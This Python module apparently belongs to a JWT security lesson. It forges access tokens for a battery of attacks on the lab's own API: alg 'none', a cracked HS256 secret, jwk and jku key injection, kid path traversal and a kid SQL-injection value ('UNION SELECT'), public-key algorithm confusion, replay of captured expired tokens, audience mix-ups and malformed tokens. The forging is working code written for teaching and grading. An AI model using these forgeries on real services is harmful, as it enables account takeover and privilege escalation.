"""Lesson 04's forged tokens: what each attack of the battery sends.

Every function here builds tokens exactly as the notebook's attacks do, from what a real
attacker has (alice's login, the public JWKS, the open token log, robots.txt) plus, for the
weak secret, what the attacker cracked offline (the grader reads it from the lab instead).
"""

from __future__ import annotations

import functools
import json
import time
import weakref
from typing import Any

import httpx
import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from labapp.lessons.l04_jwt.jose import LEGACY_KID, TYP, Material, b64url, hs256_token, segment

KNOWN_SECRET = "attacker-chosen-secret-of-forty-characters"  # noqa: S105 - public
SQLI_KID = f"nope' UNION SELECT '{KNOWN_SECRET}' --"
_jku_servers: weakref.WeakKeyDictionary[Any, str] = weakref.WeakKeyDictionary()


@functools.cache
def attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key (one per process: generating one costs ~50 ms)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def attacker_jwk() -> dict[str, Any]:
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(attacker_key().public_key()))
    return {**jwk, "kid": "attacker"}


def _admin_claims(m: Material) -> dict[str, Any]:
    return m.claims("mallory", "admin")


def login_as_alice(http: httpx.Client, lab: Any, path: str = "/login") -> str:
    user = lab.users[0]
    response = http.post(path, json={"username": user["username"], "password": user["password"]})
    response.raise_for_status()
    return response.json()["access_token"]


def forge_unverified(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    head, _, signature = login_as_alice(http, lab).split(".")
    body = segment(_admin_claims(m))
    return {
        "role edited, signature kept": f"{head}.{body}.{signature}",
        "role edited, signature garbage": f"{head}.{body}.{b64url(b'not a signature')}",
    }


def forge_alg_none(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    body = segment(_admin_claims(m))
    tokens = {f"alg {alg!r}": f"{segment({'alg': alg, 'typ': TYP})}.{body}." for alg in
              ("none", "None", "NONE", "nOnE")}  # fmt: skip
    genuine_signature = login_as_alice(http, lab).rsplit(".", 1)[1]
    tokens["alg 'none', a signature left on"] = (
        f"{segment({'alg': 'none', 'typ': TYP, 'kid': m.kid})}.{body}.{genuine_signature}"
    )
    return tokens


def forge_weak_secret(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    header = {"alg": "HS256", "typ": TYP, "kid": LEGACY_KID}
    return {"HS256 with the cracked word": hs256_token(header, _admin_claims(m), m.legacy_secret)}


def _rs256_by_attacker(m: Material, **header: Any) -> str:
    headers = {"typ": TYP, "kid": "attacker", **header}
    return jwt.encode(_admin_claims(m), attacker_key(), algorithm="RS256", headers=headers)


def forge_jwk(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    return {"own key in the jwk header": _rs256_by_attacker(m, jwk=attacker_jwk())}


def forge_jku(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    if lab not in _jku_servers:
        _jku_servers[lab] = lab.attacker_server({"/jwks.json": {"keys": [attacker_jwk()]}})
    return {"own JWKS behind jku": _rs256_by_attacker(m, jku=f"{_jku_servers[lab]}/jwks.json")}


def forge_kid_traversal(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    robots = http.get("/robots.txt").content
    absolute = str(lab.workdir / "static" / "robots.txt")
    return {
        f"kid {kid!r}": hs256_token(
            {"alg": "HS256", "typ": TYP, "kid": kid}, _admin_claims(m), robots
        )
        for kid in ("../static/robots.txt", absolute)
    }


def forge_kid_sqli(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    header = {"alg": "HS256", "typ": TYP, "kid": SQLI_KID}
    return {"kid with UNION SELECT": hs256_token(header, _admin_claims(m), KNOWN_SECRET.encode())}


def forge_confusion(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    jwk = http.get("/.well-known/jwks.json").json()["keys"][0]
    pem = jwt.PyJWK(jwk).key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    tokens = {
        "HS256 keyed with the public PEM": hs256_token(
            {"alg": "HS256", "typ": TYP, "kid": m.kid}, _admin_claims(m), pem
        )
    }
    # Genuinely signed by the issuer's key, with an algorithm it never uses for that key.
    tokens.update(forge_other_algorithms(lab, http, m))
    return tokens


def forge_expired(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    now = int(time.time())
    log = "\n".join(http.get("/ops/token-log").json())
    captured = [line.split("Bearer ")[1].rstrip('"') for line in log.splitlines()]
    return {
        "the captured expired token": captured[0],
        "the batch token without exp": captured[1],
        "a token 10 minutes past exp": m.mint(
            m.claims("alice", "customer", iat=now - 1500, exp=now - 600)
        ),
        "a token 90 s past exp (more than a small leeway)": m.mint(
            m.claims("alice", "customer", iat=now - 990, exp=now - 90)
        ),
        "a token not valid before 10 minutes from now (nbf)": m.mint(
            m.claims("alice", "customer", nbf=now + 600)
        ),
        "a token issued 10 minutes in the future (iat)": m.mint(
            m.claims("alice", "customer", iat=now + 600, exp=now + 1500)
        ),
    }


def forge_audience(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    log = "\n".join(http.get("/ops/token-log").json())
    sandbox = log.splitlines()[2].split("Bearer ")[1].rstrip('"')
    return {
        "a billing token (aud billing)": login_as_alice(http, lab, "/billing/login"),
        "a sandbox issuer's token": sandbox,
        "aud orders-api-staging": m.mint(m.claims("alice", "customer", aud="orders-api-staging")),
        "iss https://lab.example/issuer-staging": m.mint(
            m.claims("alice", "customer", iss="https://lab.example/issuer-staging")
        ),
    }


def forge_other_algorithms(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    """Genuinely signed by the issuer's RSA key, but not with the one algorithm it uses."""
    claims = _admin_claims(m)
    return {f"signed {alg} with the RS256 key": m.mint(claims, alg) for alg in ("PS256", "RS512")}


def forge_malformed(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    head = segment({"alg": "RS256", "typ": TYP, "kid": m.kid})
    body = segment(m.claims("alice", "customer"))
    huge = segment({"alg": "RS256", "typ": TYP, "kid": m.kid, "x": "A" * 6000})
    return {
        "an empty token": "",
        "two segments": f"{head}.{body}",
        "four segments": f"{head}.{body}.c2ln.c2ln",
        "not base64": "!!!.###.$$$",
        "a huge header": f"{huge}.{body}.c2ln",
        "a payload that is not JSON": f"{head}.{b64url(b'not json')}.c2ln",
        "a payload that is a list": f"{head}.{b64url(b'[1, 2]')}.c2ln",
        "a kid that is a list": f"{segment({'alg': 'RS256', 'kid': [m.kid]})}.{body}.c2ln",
    }


def forge_wrong_typ(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    claims = m.claims("alice", "customer")
    return {
        "typ JWT (e.g. an ID token)": m.mint(claims, typ="JWT"),
        "no typ": m.mint(claims, typ=None),
        "typ 7": m.mint(claims, typ=7),
        "typ ['at+jwt']": m.mint(claims, typ=[TYP]),
        # RFC 7515 §4: the last of duplicate names counts, and PyJWT's json does so too.
        "typ at+jwt, then typ JWT": m.sign_raw(
            f'{{"alg":"RS256","kid":"{m.kid}","typ":"{TYP}","typ":"JWT"}}', json.dumps(claims)
        ),
    }


def forge_missing(lab: Any, http: httpx.Client, m: Material) -> dict[str, str]:
    tokens = {}
    for claim in ("jti", "iat", "sub", "iss", "aud"):
        claims = m.claims("alice", "customer")
        del claims[claim]
        tokens[f"no {claim}"] = m.mint(claims)
    return tokens
